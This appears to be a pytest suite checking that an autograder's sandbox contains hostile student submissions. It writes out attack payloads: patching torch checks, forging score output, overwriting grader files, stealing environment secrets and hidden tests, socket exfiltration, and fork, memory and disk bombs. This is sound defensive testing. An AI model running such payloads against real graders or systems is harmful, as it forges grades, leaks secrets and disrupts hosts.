"""Hostile submissions: every attack is contained.

Each hostile submission is the released stubs (worth exactly 0 points) plus an
attack, so any point it gets was forged. After grading the whole class we
check, for every attack: the score is 0, no file outside the worker changed,
nothing it started is still running, and no secret from the grader's
environment appears in any output.
"""

import hashlib
import os
import re
import textwrap
from pathlib import Path

import pytest
import torch

from autograder import paths
from autograder.grading import grade_class, result_path
from autograder.mutants import build, copy_package, load_catalogue
from autograder.results import load
from autograder.sandbox import Limits, choose_sandbox
from autograder.errors import KitError

STUBS = paths.ASSIGNMENTS_DIR / "mha_pe"
# The catalogue's hostile submissions (the demo's forger aside): stubs that vouch for themselves, which must score
# 0, and reference solutions with a speed cheat, which must fail exactly the tests they name (`catches`).
CATALOGUED = [entry for entry in load_catalogue(paths.REPO_ROOT / "tests" / "catalogue" / "hostile.toml", "hostile")
              if not entry.demo]
TOKEN = "hostile-" + hashlib.sha256(os.urandom(16)).hexdigest()[:12]
SECRET = "s3cret-" + hashlib.sha256(os.urandom(16)).hexdigest()[:16]


def _attacks(out, canary, port, repo):
    """``{student id: code prepended to heads.py}``; ``{id: replacement of split_heads' body}`` for call-time ones."""
    return {
        "patch-the-checks": """
            import builtins, torch
            torch.allclose = lambda *a, **k: True
            torch.equal = lambda *a, **k: True
            torch.testing.assert_close = lambda *a, **k: None
            builtins.AssertionError = type("AssertionError", (Exception,), {})
        """,
        "exit-early": "import sys; sys.exit(0)",
        "exit-hard": "import os; os._exit(0)",
        "fake-summary": """
            import os, sys
            print("=========== 111 passed in 0.01s ===========")
            print('{"score": 111, "tests": [{"name": "all", "score": 111, "max_score": 111}]}')
            sys.stderr.write("FAILED 0, PASSED 111\\n")
            os.write(1, b"Score: 111/111\\n")
        """,
        "write-results": f"""
            import glob, os
            targets = glob.glob({str(out)!r} + "/**", recursive=True) + [{str(canary)!r}, {str(out)!r} + "/gradebook.csv",
                       {str(out)!r} + "/results/write-results.json", {str(out)!r} + "/results/control.json"]
            for target in targets:
                try:
                    with open(target, "w") as handle:
                        handle.write('{{"score": 111}}')
                except OSError:
                    pass
        """,
        "read-hidden-tests": f"""
            import glob
            stolen = []
            for pattern in ("/autograder/hidden_tests/*.py", "/solutions/mha_pe/*.py", "/tests/catalogue/*.toml"):
                for path in glob.glob({str(repo)!r} + pattern):
                    try:
                        stolen.append(open(path).read())
                    except OSError:
                        pass
            print("STOLEN", len(stolen), "".join(stolen)[:5000])
            if stolen:
                raise RuntimeError("".join(stolen)[:5000])
        """,
        "network": f"""
            import socket
            for address in (("127.0.0.1", {port}), ("8.8.8.8", 53)):
                try:
                    socket.create_connection(address, timeout=2).sendall(b"{TOKEN}")
                except OSError as error:
                    print("no network:", error)
        """,
        "leave-processes": f"""
            import os, subprocess, sys
            subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)", "{TOKEN}"],
                             start_new_session=True)
            if os.fork() == 0:
                os.setsid()
                os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(300)", "{TOKEN}"])
        """,
        "memory-bomb": "hoard = bytearray(64 * 2**30)",
        "process-bomb": """
            import os, time
            children = []
            for _ in range(2000):
                try:
                    pid = os.fork()
                except OSError:
                    break
                if pid == 0:
                    time.sleep(300)
                    os._exit(0)
                children.append(pid)
            print("forked", len(children))
        """,
        "fill-the-disk": """
            chunk = b"x" * (1 << 20)
            for path in ("/tmp/big", "big"):
                try:
                    with open(path, "wb") as handle:
                        for _ in range(2048):
                            handle.write(chunk)
                except OSError as error:
                    print("stopped:", error)
        """,
        "flood-stdout": """
            import sys
            for _ in range(200):
                sys.stdout.write("spam " * 20000 + "\\n")
        """,
        "steal-environment": """
            import os
            print(dict(os.environ))
            raise RuntimeError(str(dict(os.environ)))
        """,
        "read-stdin": "import sys; print('stdin gave', repr(sys.stdin.read()))",
        "overwrite-code": f"""
            import glob
            for pattern in ("/submission/*.py", "/opt/grader/worker/*.py", {str(repo)!r} + "/solutions/mha_pe/*.py",
                            {str(repo)!r} + "/autograder/*.py", {str(repo)!r} + "/autograder/hidden_tests/*.py"):
                for path in glob.glob(pattern):
                    try:
                        with open(path, "w") as handle:
                            handle.write("hacked = True\\n")
                    except OSError:
                        pass
        """,
        "kill-everything": """
            import os, signal
            for target in (os.getppid(), 1, -1):
                try:
                    os.kill(target, signal.SIGKILL)
                except OSError:
                    pass
        """,
        "forge-protocol": """
            import json, os, struct, sys
            fake = json.dumps({"value": {"__tensor__": 0, "dtype": "float32", "shape": [1], "device": "cpu"},
                               "blob_sizes": [4]}).encode()
            for fd in range(3, 64):  # whichever descriptor is the reply pipe
                try:
                    os.write(fd, struct.pack("<II", len(fake), 4) + fake + b"\\0\\0\\x80\\x3f")
                except OSError:
                    pass
        """,
        "look-around": """
            import glob, os
            found = sorted(set(glob.glob("/tmp/**/*.py", recursive=True)) | set(glob.glob("/submission/*.py")))
            print("SEEN", len(found), [os.path.basename(path) for path in found])
            print("PROCS", sorted(name for name in os.listdir("/proc") if name.isdigit()))
            reachable = []
            for pid in range(1, 1 << 15):  # the next student's worker, started early, must be out of reach
                try:
                    os.kill(pid, 0)
                    reachable.append(pid)
                except ProcessLookupError:
                    pass
                except OSError:
                    reachable.append(pid)  # exists, even if it may not be signalled
            print("REACHABLE", reachable)
            for pid in range(1, 400):  # whatever it can reach, it may not trace or kill the warm process
                try:
                    open(f"/proc/{pid}/mem", "rb").read(1)
                except OSError:
                    pass
        """,
        "read-other-students": f"""
            import glob
            print("OTHERS", [open(p).read()[:100] for p in glob.glob({str(out.parent / "class")!r} + "/*/*.py")][:3])
        """,
    }


EVIL_SUBCLASS = '''
    import torch

    class Liar(torch.Tensor):
        """Claims to equal anything."""

        @classmethod
        def __torch_function__(cls, func, types, args=(), kwargs=None):
            return True

        def __eq__(self, other):
            return True

    return torch.Tensor._make_subclass(Liar, torch.zeros(x.shape[0], num_heads, x.shape[1], x.shape[2] // num_heads))
'''


def _snapshot(*roots):
    digest = {}
    for root in roots:
        for path in sorted(Path(root).rglob("*")):
            if path.is_file() and "__pycache__" not in path.parts:
                digest[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return digest


def _alive_with(token):
    alive = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if token.encode() in (entry / "cmdline").read_bytes():
                    alive.append(int(entry.name))
            except OSError:
                pass
    return alive


@pytest.fixture(scope="module", params=["forked", "own-sandbox"])
def attacked(request, tmp_path_factory, loopback_listener):
    """The class graded twice: workers forked from a warm zygote, and one sandbox per worker."""
    try:
        choose_sandbox("bwrap")
    except KitError as error:
        pytest.skip(f"the hostile suite needs the sandbox: {error}")
    root = tmp_path_factory.mktemp("hostile")
    class_dir, out = root / "class", root / "out"
    canary = root / "canary.txt"
    canary.write_text("untouched")
    listener = loopback_listener
    attacks = _attacks(out, canary, listener.port, paths.REPO_ROOT)
    for student, code in attacks.items():
        folder = copy_package(STUBS, class_dir / student)
        heads = folder / "heads.py"
        heads.write_text(textwrap.dedent(code).strip() + "\n\n" + heads.read_text())
    folder = copy_package(STUBS, class_dir / "tensor-subclass")
    heads = (folder / "heads.py").read_text()
    marker = '    raise NotImplementedError("split_heads is not implemented yet")\n'
    (folder / "heads.py").write_text(heads.replace(marker, textwrap.indent(textwrap.dedent(EVIL_SUBCLASS), "    ")))
    folder = copy_package(STUBS, class_dir / "symlink-to-solutions")
    (folder / "heads.py").unlink()
    (folder / "heads.py").symlink_to(paths.SOLUTIONS_DIR / "mha_pe" / "heads.py")
    copy_package(paths.SOLUTIONS_DIR / "mha_pe", class_dir / "control")
    for entry in CATALOGUED:
        build(entry, class_dir / entry.id)

    watched = [paths.REPO_ROOT / "solutions", paths.REPO_ROOT / "assignments", paths.REPO_ROOT / "autograder",
               paths.REPO_ROOT / "tests"]
    before = _snapshot(*watched)
    old = os.environ.get("MHA_PE_GRADER_SECRET")
    os.environ["MHA_PE_GRADER_SECRET"] = SECRET  # inherited by the judges; workers must never see it
    try:
        results = grade_class(class_dir, out, jobs=2, sandbox_mode="bwrap", emit=lambda line: None,
                              limits=Limits(call_seconds=8.0, submission_seconds=90.0),
                              fork=request.param == "forked", skip_notebook=True)
    finally:
        if old is None:
            os.environ.pop("MHA_PE_GRADER_SECRET", None)
        else:
            os.environ["MHA_PE_GRADER_SECRET"] = old
    yield {
        "results": {result.student: result for result in results},
        "out": out,
        "canary": canary,
        "listener": listener,
        "changed": {path for path, digest in _snapshot(*watched).items() if before.get(path) != digest}
        | (set(before) - set(_snapshot(*watched))),
        "attacks": sorted(attacks) + ["tensor-subclass", "symlink-to-solutions"]
        + [entry.id for entry in CATALOGUED if entry.base == "stubs"],
        "cheats": [entry for entry in CATALOGUED if entry.base != "stubs"],
    }
    for pid in _alive_with(TOKEN):  # never leave anything behind, even when a test below fails
        try:
            os.kill(pid, 9)
        except OSError:
            pass


def test_every_attack_was_graded(attacked):
    assert set(attacked["attacks"]) | {entry.id for entry in attacked["cheats"]} | {"control"} \
        == set(attacked["results"])


def test_a_worker_vouching_for_itself_earns_nothing(attacked):
    """Layers, buffers, gradients and head sizes are data the judge checks by recomputing, never the worker's word."""
    forged = [entry.id for entry in CATALOGUED if entry.base == "stubs"]
    assert forged and {student: attacked["results"][student].score for student in forged} == dict.fromkeys(forged, 0)
    outputs = " ".join(test.output for test in attacked["results"]["forge-session-claims"].tests)
    assert "nothing behind the claims" in outputs, "the forged session was never in force: the test proves nothing"


def test_speed_cheats_lose_the_speed_check_and_nothing_else(attacked):
    """Fresh arguments for every timed call (no cache answers them), each timed table checked: a cached loop and a
    loop that answers large sizes instantly with a wrong table both lose the vectorization check."""
    assert attacked["cheats"]
    for entry in attacked["cheats"]:
        failed = {test.id for test in attacked["results"][entry.id].tests if test.status == "failed"}
        assert failed == set(entry.catches), entry.id


def test_no_attack_forges_a_single_point(attacked):
    forged = {student: attacked["results"][student].score for student in attacked["attacks"]
              if attacked["results"][student].score != 0 and student != "tensor-subclass"}
    assert forged == {}


def test_a_lying_tensor_subclass_arrives_as_plain_zeros(attacked):
    """Its zeros have the right shape (that check passes, honestly); no value check believes its claims."""
    result = attacked["results"]["tensor-subclass"]
    assert {test.id for test in result.tests if test.status == "passed"} == {"test_split_shape"}
    assert not any("TypeError" in test.output for test in result.tests)


def test_the_honest_student_beside_them_keeps_full_marks(attacked):
    control = attacked["results"]["control"]
    assert control.score == control.max_score > 0
    assert load(result_path(attacked["out"], "control")).score == control.max_score


def test_no_file_outside_the_worker_changed(attacked):
    assert attacked["changed"] == set()
    assert attacked["canary"].read_text() == "untouched"


def test_results_on_disk_are_the_judges(attacked):
    for student, result in attacked["results"].items():
        assert load(result_path(attacked["out"], student)) == result


def test_nothing_the_attacks_started_is_still_running(attacked):
    assert _alive_with(TOKEN) == []


def test_no_secret_and_no_hidden_test_in_any_output(attacked):
    hidden = (paths.REPO_ROOT / "autograder" / "hidden_tests" / "check_heads.py").read_text()
    solution = (paths.SOLUTIONS_DIR / "mha_pe" / "heads.py").read_text()
    probes = [SECRET, hidden[200:260], solution[solution.index("### BEGIN"):][:80]]
    for path in attacked["out"].rglob("*"):
        if path.is_file() and path.suffix in (".json", ".md", ".csv"):
            text = path.read_text(errors="replace")
            for probe in probes:
                assert probe not in text, f"{probe[:30]!r} leaked into {path.name}"


def test_the_network_is_unreachable(attacked):
    assert attacked["listener"].connections == 0


def test_output_floods_are_capped(attacked):
    output = attacked["results"]["flood-stdout"].extra.get("student_output", "")
    assert len(output) < 3 * Limits().output_bytes and "not kept" in output


def test_fake_summaries_stay_student_output(attacked):
    result = attacked["results"]["fake-summary"]
    assert "111 passed" in result.extra.get("student_output", "")
    assert result.score == 0


def test_stdin_is_closed_not_waited_on(attacked):
    result = attacked["results"]["read-stdin"]
    assert "stdin gave ''" in result.extra.get("student_output", "")
    assert not any("time limit" in note for note in result.notes)


def test_a_worker_sees_only_its_own_files_and_no_other_process(attacked):
    output = attacked["results"]["look-around"].extra.get("student_output", "")
    assert "SEEN 3 " in output, output[:300]  # its own three modules, nothing of anyone else
    procs = re.findall(r"'(\d+)'", output.split("PROCS", 1)[1].splitlines()[0])
    assert len(procs) <= 2, procs  # forked: none (empty /proc); own sandbox: itself and bwrap's init
    reachable = re.findall(r"\d+", output.split("REACHABLE", 1)[1].splitlines()[0])
    assert 1 <= len(reachable) <= 2, reachable  # itself (and bwrap's init): no zygote, no other student's worker


def test_a_symlinked_file_is_not_followed(attacked):
    result = attacked["results"]["symlink-to-solutions"]
    assert any("heads.py was not used: not a regular file" in note for note in result.notes)


LINGER = '''
import os, sys, time
if os.fork() == 0:  # a process holding no pipe to the judge: only the end of the namespace can stop it
    os.closerange(0, 256)
    os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(300)", {token!r}])
time.sleep(0.5)  # long enough for it to be running under its new name
os.close(1)  # and the worker itself lets go of its output pipe: the judge cannot wait for that to close
os.close(2)
'''


@pytest.mark.parametrize("fork", [True, False], ids=["forked", "own-sandbox"])
def test_what_a_worker_started_is_gone_when_its_close_returns(fork, tmp_path):
    """The next student's code may start as soon as the previous worker is closed: nothing of it may remain."""
    from autograder.remote import RemoteSubmission, StudentError
    from autograder.submission import read_files
    from autograder.workers import WorkerFactory

    try:
        sandbox = choose_sandbox("bwrap", fork=fork)
    except KitError as error:
        pytest.skip(f"needs the sandbox: {error}")
    token = "linger-" + hashlib.sha256(os.urandom(16)).hexdigest()[:12]
    folder = copy_package(STUBS, tmp_path / "linger")
    heads = folder / "heads.py"
    heads.write_text(textwrap.dedent(LINGER.format(token=token)) + heads.read_text())
    files, _ = read_files(folder)
    factory = WorkerFactory(sandbox, tmp_path)
    try:
        remote = RemoteSubmission(sandbox, factory.launcher(files, tmp_path))
        with pytest.raises(StudentError):
            remote.split_heads(torch.zeros(1, 2, 4), 2)  # imports heads.py: the lingering process starts
        assert _alive_with(token), "the lingering process never started: the test proves nothing"
        remote.close()
        assert _alive_with(token) == []
    finally:
        factory.close()
        for pid in _alive_with(token):
            os.kill(pid, 9)
